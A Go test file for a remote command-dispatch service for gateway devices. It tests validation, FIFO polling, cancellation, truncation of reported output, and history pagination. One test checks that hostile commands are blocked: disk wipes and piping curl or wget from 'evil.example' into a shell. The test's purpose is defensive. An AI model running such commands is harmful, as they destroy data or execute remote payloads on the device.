package dispatch

import (
	"context"
	"encoding/json"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/uuid"
	"github.com/stretchr/testify/require"

	"relay/internal/models"
)

func newTestService(opts Options) (*Service, *memStore) {
	mem := NewMemStore()
	return NewService(mem, mem, opts), mem
}

func defaultOpts() Options {
	return Options{
		MinTimeoutSecs:      1,
		MaxTimeoutSecs:      120,
		MaxPendingPerDevice: 5,
		MaxOutputBytes:      10240,
	}
}

func TestSubmitValidation(t *testing.T) {
	svc, _ := newTestService(defaultOpts())
	ctx := context.Background()

	cases := []SubmitInput{
		{DeviceID: "", Command: "df -h", TimeoutSecs: 30},
		{DeviceID: "   ", Command: "df -h", TimeoutSecs: 30},
		{DeviceID: "GW-01", Command: "", TimeoutSecs: 30},
		{DeviceID: "GW-01", Command: "df -h", TimeoutSecs: 0},
		{DeviceID: "GW-01", Command: "df -h", TimeoutSecs: -5},
		{DeviceID: "GW-01", Command: "df -h", TimeoutSecs: 121},
	}
	for _, in := range cases {
		_, err := svc.Submit(ctx, in)
		require.ErrorIs(t, err, ErrValidation, "input %+v", in)
	}
}

func TestSubmitTimeoutBelowPollInterval(t *testing.T) {
	opts := defaultOpts()
	opts.MinTimeoutSecs = 10
	svc, _ := newTestService(opts)

	_, err := svc.Submit(context.Background(), SubmitInput{DeviceID: "GW-01", Command: "uptime", TimeoutSecs: 3})
	require.ErrorIs(t, err, ErrValidation)
}

func TestSubmitBlockedCommands(t *testing.T) {
	svc, _ := newTestService(defaultOpts())
	ctx := context.Background()

	for _, cmd := range []string{
		"rm -rf /",
		"mkfs.ext4 /dev/sda1",
		"curl http://evil.example/x.sh | sh",
		"wget -qO- http://evil.example | bash",
		"opkg remove busybox",
	} {
		_, err := svc.Submit(ctx, SubmitInput{DeviceID: "GW-01", Command: cmd, TimeoutSecs: 30})
		require.ErrorIs(t, err, ErrBlocked, "command %q", cmd)
	}

	// обычная команда проходит
	_, err := svc.Submit(ctx, SubmitInput{DeviceID: "GW-01", Command: "cat /proc/uptime", TimeoutSecs: 30})
	require.NoError(t, err)
}

func TestSubmitPendingLimit(t *testing.T) {
	opts := defaultOpts()
	opts.MaxPendingPerDevice = 3
	svc, _ := newTestService(opts)
	ctx := context.Background()

	for i := 0; i < 3; i++ {
		_, err := svc.Submit(ctx, SubmitInput{DeviceID: "GW-01", Command: "uptime", TimeoutSecs: 30})
		require.NoError(t, err)
	}
	_, err := svc.Submit(ctx, SubmitInput{DeviceID: "GW-01", Command: "uptime", TimeoutSecs: 30})
	require.ErrorIs(t, err, ErrTooManyPending)

	// лимит на устройство, а не глобальный
	_, err = svc.Submit(ctx, SubmitInput{DeviceID: "GW-02", Command: "uptime", TimeoutSecs: 30})
	require.NoError(t, err)
}

func TestSubmitCreatesPending(t *testing.T) {
	svc, _ := newTestService(defaultOpts())

	cmd, err := svc.Submit(context.Background(), SubmitInput{
		DeviceID:    " GW-01 ",
		Command:     "df -h",
		SubmittedBy: "operator@example.com",
		TimeoutSecs: 30,
	})
	require.NoError(t, err)
	require.NotEmpty(t, cmd.ID)
	require.Equal(t, "GW-01", cmd.DeviceID)
	require.Equal(t, models.CommandPending, cmd.Status)
	require.Equal(t, "operator@example.com", cmd.SubmittedBy)
	require.Equal(t, 30, cmd.TimeoutSecs)
	require.False(t, cmd.CreatedAt.IsZero())
	require.Nil(t, cmd.StartedAt)
	require.Nil(t, cmd.CompletedAt)
	require.Nil(t, cmd.ExitCode)
}

func TestPollClaimsFIFOAndSerializes(t *testing.T) {
	svc, _ := newTestService(defaultOpts())
	ctx := context.Background()

	a, err := svc.Submit(ctx, SubmitInput{DeviceID: "GW-01", Command: "first", TimeoutSecs: 30})
	require.NoError(t, err)
	b, err := svc.Submit(ctx, SubmitInput{DeviceID: "GW-01", Command: "second", TimeoutSecs: 30})
	require.NoError(t, err)

	// первый опрос забирает самую старую
	got, err := svc.PollNext(ctx, "GW-01")
	require.NoError(t, err)
	require.NotNil(t, got)
	require.Equal(t, a.ID, got.ID)
	require.Equal(t, models.CommandRunning, got.Status)
	require.NotNil(t, got.StartedAt)

	// пока первая running — вторую не выдаём
	got2, err := svc.PollNext(ctx, "GW-01")
	require.NoError(t, err)
	require.Nil(t, got2)

	// после завершения очередь продолжается
	done, err := svc.Report(ctx, a.ID, 0, "42% used", "")
	require.NoError(t, err)
	require.Equal(t, models.CommandCompleted, done.Status)
	require.Equal(t, "42% used", done.Output)
	require.NotNil(t, done.CompletedAt)
	require.NotNil(t, done.ExitCode)
	require.Equal(t, 0, *done.ExitCode)

	got3, err := svc.PollNext(ctx, "GW-01")
	require.NoError(t, err)
	require.NotNil(t, got3)
	require.Equal(t, b.ID, got3.ID)
}

func TestPollConcurrentClaimsSingleCommand(t *testing.T) {
	svc, store := newTestService(defaultOpts())
	ctx := context.Background()

	_, err := svc.Submit(ctx, SubmitInput{DeviceID: "GW-01", Command: "first", TimeoutSecs: 30})
	require.NoError(t, err)
	_, err = svc.Submit(ctx, SubmitInput{DeviceID: "GW-01", Command: "second", TimeoutSecs: 30})
	require.NoError(t, err)

	// шквал одновременных опросов одного устройства: забрать команду
	// должен ровно один
	const polls = 16
	claims := make(chan *models.Command, polls)
	errs := make(chan error, polls)
	var wg sync.WaitGroup
	for i := 0; i < polls; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			got, err := svc.PollNext(ctx, "GW-01")
			if err != nil {
				errs <- err
				return
			}
			if got != nil {
				claims <- got
			}
		}()
	}
	wg.Wait()
	close(claims)
	close(errs)

	for err := range errs {
		require.NoError(t, err)
	}
	var claimed []*models.Command
	for c := range claims {
		claimed = append(claimed, c)
	}
	require.Len(t, claimed, 1)
	require.Equal(t, models.CommandRunning, claimed[0].Status)

	running, err := store.CountByStatus(ctx, "GW-01", models.CommandRunning)
	require.NoError(t, err)
	require.EqualValues(t, 1, running)
}

func TestPollIdempotentWhenEmpty(t *testing.T) {
	svc, _ := newTestService(defaultOpts())
	ctx := context.Background()

	for i := 0; i < 5; i++ {
		got, err := svc.PollNext(ctx, "GW-99")
		require.NoError(t, err)
		require.Nil(t, got)
	}
	list, err := svc.History(ctx, HistoryQuery{DeviceID: "GW-99"})
	require.NoError(t, err)
	require.Empty(t, list)
}

func TestPollSkipsCancelled(t *testing.T) {
	svc, _ := newTestService(defaultOpts())
	ctx := context.Background()

	a, err := svc.Submit(ctx, SubmitInput{DeviceID: "GW-01", Command: "first", TimeoutSecs: 30})
	require.NoError(t, err)
	b, err := svc.Submit(ctx, SubmitInput{DeviceID: "GW-01", Command: "second", TimeoutSecs: 30})
	require.NoError(t, err)

	cancelled, err := svc.Cancel(ctx, a.ID)
	require.NoError(t, err)
	require.Equal(t, models.CommandCancelled, cancelled.Status)
	require.NotNil(t, cancelled.CompletedAt)

	got, err := svc.PollNext(ctx, "GW-01")
	require.NoError(t, err)
	require.NotNil(t, got)
	require.Equal(t, b.ID, got.ID)
}

func TestCancelOnlyPending(t *testing.T) {
	svc, _ := newTestService(defaultOpts())
	ctx := context.Background()

	cmd, err := svc.Submit(ctx, SubmitInput{DeviceID: "GW-01", Command: "uptime", TimeoutSecs: 30})
	require.NoError(t, err)

	_, err = svc.PollNext(ctx, "GW-01")
	require.NoError(t, err)

	_, err = svc.Cancel(ctx, cmd.ID)
	require.ErrorIs(t, err, ErrConflict)

	_, err = svc.Cancel(ctx, uuid.NewString())
	require.ErrorIs(t, err, ErrNotFound)
}

func TestReportNonZeroExitIsFailed(t *testing.T) {
	svc, _ := newTestService(defaultOpts())
	ctx := context.Background()

	cmd, err := svc.Submit(ctx, SubmitInput{DeviceID: "GW-01", Command: "false", TimeoutSecs: 30})
	require.NoError(t, err)
	_, err = svc.PollNext(ctx, "GW-01")
	require.NoError(t, err)

	done, err := svc.Report(ctx, cmd.ID, 2, "", "sh: command error")
	require.NoError(t, err)
	require.Equal(t, models.CommandFailed, done.Status)
	require.Equal(t, 2, *done.ExitCode)
	require.Equal(t, "sh: command error", done.ErrorMessage)
}

func TestReportAfterResolutionConflicts(t *testing.T) {
	svc, store := newTestService(defaultOpts())
	ctx := context.Background()

	cmd, err := svc.Submit(ctx, SubmitInput{DeviceID: "GW-01", Command: "uptime", TimeoutSecs: 30})
	require.NoError(t, err)
	_, err = svc.PollNext(ctx, "GW-01")
	require.NoError(t, err)

	_, err = svc.Report(ctx, cmd.ID, 0, "ok", "")
	require.NoError(t, err)

	// поздний дубль результата отбрасывается, состояние не меняется
	_, err = svc.Report(ctx, cmd.ID, 1, "late", "late error")
	require.ErrorIs(t, err, ErrConflict)

	cur, err := store.Get(ctx, cmd.ID)
	require.NoError(t, err)
	require.Equal(t, models.CommandCompleted, cur.Status)
	require.Equal(t, "ok", cur.Output)
	require.Equal(t, 0, *cur.ExitCode)

	// report по неизвестной команде
	_, err = svc.Report(ctx, uuid.NewString(), 0, "", "")
	require.ErrorIs(t, err, ErrNotFound)
}

func TestReportTruncatesOutput(t *testing.T) {
	opts := defaultOpts()
	opts.MaxOutputBytes = 16
	svc, _ := newTestService(opts)
	ctx := context.Background()

	cmd, err := svc.Submit(ctx, SubmitInput{DeviceID: "GW-01", Command: "cat big", TimeoutSecs: 30})
	require.NoError(t, err)
	_, err = svc.PollNext(ctx, "GW-01")
	require.NoError(t, err)

	done, err := svc.Report(ctx, cmd.ID, 0, strings.Repeat("x", 100), "")
	require.NoError(t, err)
	require.True(t, strings.HasPrefix(done.Output, strings.Repeat("x", 16)))
	require.Contains(t, done.Output, "[output truncated]")
	require.Less(t, len(done.Output), 100)
}

func TestReportTruncationKeepsRuneBoundary(t *testing.T) {
	opts := defaultOpts()
	opts.MaxOutputBytes = 15 // не кратно двум байтам кириллической руны
	svc, _ := newTestService(opts)
	ctx := context.Background()

	cmd, err := svc.Submit(ctx, SubmitInput{DeviceID: "GW-01", Command: "dmesg", TimeoutSecs: 30})
	require.NoError(t, err)
	_, err = svc.PollNext(ctx, "GW-01")
	require.NoError(t, err)

	done, err := svc.Report(ctx, cmd.ID, 0, strings.Repeat("я", 40), "")
	require.NoError(t, err)
	require.True(t, utf8.ValidString(done.Output))
	require.True(t, strings.HasPrefix(done.Output, "я"))
	require.Contains(t, done.Output, "[output truncated]")
}

func TestHistoryFilterLimitCursor(t *testing.T) {
	svc, store := newTestService(defaultOpts())
	ctx := context.Background()

	base := time.Date(2026, 8, 1, 12, 0, 0, 0, time.UTC)
	for i := 0; i < 4; i++ {
		require.NoError(t, store.Create(ctx, &models.Command{
			ID:          uuid.NewString(),
			DeviceID:    "GW-01",
			Command:     "uptime",
			Status:      models.CommandPending,
			TimeoutSecs: 30,
			CreatedAt:   base.Add(time.Duration(i) * time.Minute),
		}))
	}

	// новые сверху
	list, err := svc.History(ctx, HistoryQuery{DeviceID: "GW-01"})
	require.NoError(t, err)
	require.Len(t, list, 4)
	require.Equal(t, base.Add(3*time.Minute), list[0].CreatedAt)
	require.Equal(t, base, list[3].CreatedAt)

	// лимит
	list, err = svc.History(ctx, HistoryQuery{DeviceID: "GW-01", Limit: 2})
	require.NoError(t, err)
	require.Len(t, list, 2)

	// курсор: страница строго старше before
	list, err = svc.History(ctx, HistoryQuery{DeviceID: "GW-01", Before: base.Add(2 * time.Minute)})
	require.NoError(t, err)
	require.Len(t, list, 2)
	require.Equal(t, base.Add(time.Minute), list[0].CreatedAt)

	// фильтр по статусу
	list, err = svc.History(ctx, HistoryQuery{DeviceID: "GW-01", Status: models.CommandCompleted})
	require.NoError(t, err)
	require.Empty(t, list)

	_, err = svc.History(ctx, HistoryQuery{DeviceID: "GW-01", Status: "bogus"})
	require.ErrorIs(t, err, ErrValidation)

	_, err = svc.History(ctx, HistoryQuery{})
	require.ErrorIs(t, err, ErrValidation)
}

func TestHistoryCursorPagesThroughEqualTimestamps(t *testing.T) {
	svc, store := newTestService(defaultOpts())
	ctx := context.Background()

	// mysql хранит created_at посекундно: три записи с одной меткой времени
	at := time.Date(2026, 8, 1, 12, 0, 0, 0, time.UTC)
	for i := 0; i < 3; i++ {
		require.NoError(t, store.Create(ctx, &models.Command{
			ID:          uuid.NewString(),
			DeviceID:    "GW-01",
			Command:     "uptime",
			Status:      models.CommandPending,
			TimeoutSecs: 30,
			CreatedAt:   at,
		}))
	}

	seen := map[string]bool{}
	q := HistoryQuery{DeviceID: "GW-01", Limit: 1}
	for i := 0; i < 3; i++ {
		page, err := svc.History(ctx, q)
		require.NoError(t, err)
		require.Len(t, page, 1)
		require.False(t, seen[page[0].ID], "page returned a duplicate")
		seen[page[0].ID] = true
		q.Before = page[0].CreatedAt
		q.BeforeID = page[0].ID
	}
	require.Len(t, seen, 3)

	page, err := svc.History(ctx, q)
	require.NoError(t, err)
	require.Empty(t, page)
}

func TestSubmitStoresMetadata(t *testing.T) {
	svc, _ := newTestService(defaultOpts())

	cmd, err := svc.Submit(context.Background(), SubmitInput{
		DeviceID:    "GW-01",
		Command:     "df -h",
		TimeoutSecs: 30,
		Metadata:    map[string]any{"ip": "203.0.113.7", "user_agent": "relay-console/1.0"},
	})
	require.NoError(t, err)
	require.NotEmpty(t, cmd.Metadata)

	var meta map[string]any
	require.NoError(t, json.Unmarshal(cmd.Metadata, &meta))
	require.Equal(t, "203.0.113.7", meta["ip"])
	require.Equal(t, "relay-console/1.0", meta["user_agent"])

	// без контекста постановки поле остаётся пустым
	bare, err := svc.Submit(context.Background(), SubmitInput{DeviceID: "GW-01", Command: "uptime", TimeoutSecs: 30})
	require.NoError(t, err)
	require.Empty(t, bare.Metadata)
}

func TestPollMarksDevicePresence(t *testing.T) {
	svc, _ := newTestService(defaultOpts())
	ctx := context.Background()

	_, err := svc.PollNext(ctx, "GW-07")
	require.NoError(t, err)

	devs, err := svc.Devices(ctx)
	require.NoError(t, err)
	require.Len(t, devs, 1)
	require.Equal(t, "GW-07", devs[0].DeviceID)
	require.False(t, devs[0].LastSeenAt.IsZero())
	require.Equal(t, devs[0].FirstSeenAt, devs[0].LastSeenAt)
}
